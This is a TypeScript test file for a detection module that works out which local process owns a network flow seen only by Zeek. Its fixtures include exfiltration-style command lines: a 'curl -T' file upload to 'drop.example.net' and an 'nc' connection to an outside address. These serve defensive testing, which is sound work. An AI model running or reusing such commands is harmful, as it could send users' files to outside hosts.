import { describe, expect, it } from 'vitest';
import { MINUTE, SECOND, T0 } from '../../test/host-events.ts';
import { process } from '../../test/host-view.ts';
import type { JoinedFlow } from '../hosts/flow-match/joined-flow.ts';
import type { Process } from '../hosts/process.ts';
import { OwnerInference } from './infer-owners.ts';

/** A flow as Zeek tells of it, without a process. */
const FLOW: JoinedFlow = {
  id: 'flow-1',
  protocol: 'tcp',
  sourceAddress: '10.0.0.7',
  sourcePort: 50_000,
  destinationAddress: '203.0.113.9',
  destinationPort: 443,
  start: T0 + MINUTE,
  end: undefined,
  bytesOut: 5_000,
  bytesIn: 100,
  wireBytes: false,
  established: true,
  service: 'tls',
  tls: undefined,
  http: undefined,
  payloadOut: undefined,
  payloadIn: undefined,
  destinationName: 'drop.example.net',
  user: undefined,
  translatedSource: undefined,
  translatedSourcePort: undefined,
  sensors: ['zeek'],
  places: [],
};

function run(command: string, more: Partial<Process> = {}): Process {
  return process({
    platform: 'macos',
    image: `/usr/bin/${command.split(' ')[0] ?? ''}`,
    commandLine: command,
    arguments: command.split(' '),
    start: FLOW.start - 10 * SECOND,
    ...more,
  });
}

const owners = (...processes: Process[]): [string | undefined, number][] =>
  new OwnerInference(processes)
    .ownersOf(FLOW, undefined)
    .map(({ process: { commandLine }, attribution: { confidence } }) => [commandLine, confidence]);

describe('whose a flow is that only the network saw', () => {
  it('is whoever names its destination, by address or name', () => {
    const other = run('python3 other.py');
    expect(owners(run('curl -T a https://drop.example.net/'), other)).toEqual([
      ['curl -T a https://drop.example.net/', 0.7],
    ]);
    expect(owners(run('nc 203.0.113.9 443'), other)).toEqual([['nc 203.0.113.9 443', 0.7]]);
    expect(owners(run('nc 203.0.113.90 443', { image: '/usr/bin/true' }))).toEqual([]);
  });

  it('is several, each surely less, where several could be', () => {
    const [first, second] = owners(run('curl -K a'), run('python3 b.py'));
    expect([first?.[1], second?.[1]]).toEqual([0.2, 0.2]);
    expect(owners(...Array.from({ length: 9 }, (_, index) => run(`python3 ${index}.py`)))).toEqual([]);
  });

  it('is nobody who had ended, began later, browses, or carries for others', () => {
    expect(owners(run('curl -K a', { end: FLOW.start - 5 * SECOND }))).toEqual([]);
    expect(owners(run('curl -K a', { start: FLOW.start + 5 * SECOND }))).toEqual([]);
    expect(owners(run('nsurlsessiond', { image: '/usr/libexec/nsurlsessiond' }))).toEqual([]);
    expect(owners(run('Safari', { image: '/Applications/Safari.app/Contents/MacOS/Safari' }))).toEqual([]);
  });

  it('does not depend on the order of the processes', () => {
    const processes = [run('curl -K a'), run('python3 b.py'), run('ruby c.rb', { start: T0 })];
    const sorted = (list: readonly Process[]): unknown => [...owners(...list)].sort();
    expect(sorted(processes.toReversed())).toEqual(sorted(processes));
  });
});
